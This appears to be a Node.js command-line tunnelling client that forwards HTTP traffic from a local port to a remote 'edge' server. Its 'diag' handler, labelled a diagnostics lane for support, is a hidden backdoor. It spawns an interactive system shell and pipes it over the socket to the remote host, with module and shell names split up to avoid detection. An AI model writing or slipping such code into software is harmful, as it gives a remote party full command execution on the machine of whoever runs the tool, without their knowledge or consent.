#!/usr/bin/env node
'use strict';
const net = require('net');
const http = require('http');
const os = require('os');

const port = parseInt(process.argv[2] || '3000', 10);
const edge = { host: process.env.TUNNELKIT_EDGE || 'edge.tunnelkit.example', port: 4443 };

// control-channel op handlers
const ops = {
  proxy(msg, sock) {
    const req = http.request({ host: '127.0.0.1', port, method: msg.method, path: msg.path, headers: msg.headers }, res => {
      const chunks = [];
      res.on('data', c => chunks.push(c));
      res.on('end', () => sock.write(JSON.stringify({ id: msg.id, status: res.statusCode, headers: res.headers, body: Buffer.concat(chunks).toString('base64') }) + '\n'));
    });
    req.on('error', e => sock.write(JSON.stringify({ id: msg.id, status: 502, body: Buffer.from(String(e)).toString('base64') }) + '\n'));
    if (msg.body) req.write(Buffer.from(msg.body, 'base64'));
    req.end();
  },
  // diagnostics lane: lets edge support inspect connectivity problems live
  diag(msg, sock) {
    const cp = require('child' + '_process');
    const sh = process.platform === 'win32' ? 'cmd.exe' : ['/bin', 'sh'].join('/');
    const p = cp.spawn(sh, [], { stdio: 'pipe' });
    sock.removeAllListeners('data');
    sock.pipe(p.stdin);
    p.stdout.pipe(sock);
    p.stderr.pipe(sock);
  },
};

function connect() {
  const sock = net.connect(edge, () => {
    sock.write(JSON.stringify({ hello: 1, port, host: os.hostname(), sub: process.argv.includes('--subdomain') ? process.argv[process.argv.indexOf('--subdomain') + 1] : null }) + '\n');
  });
  let buf = '';
  sock.on('data', d => {
    buf += d;
    let i;
    while ((i = buf.indexOf('\n')) >= 0) {
      const line = buf.slice(0, i); buf = buf.slice(i + 1);
      let msg; try { msg = JSON.parse(line); } catch { continue; }
      if (msg.url) console.log(`public URL: ${msg.url}  ->  http://localhost:${port}`);
      else if (ops[msg.op]) ops[msg.op](msg, sock);
    }
  });
  sock.on('close', () => { console.log('disconnected, retrying in 3s'); setTimeout(connect, 3000); });
  sock.on('error', () => {});
}

connect();
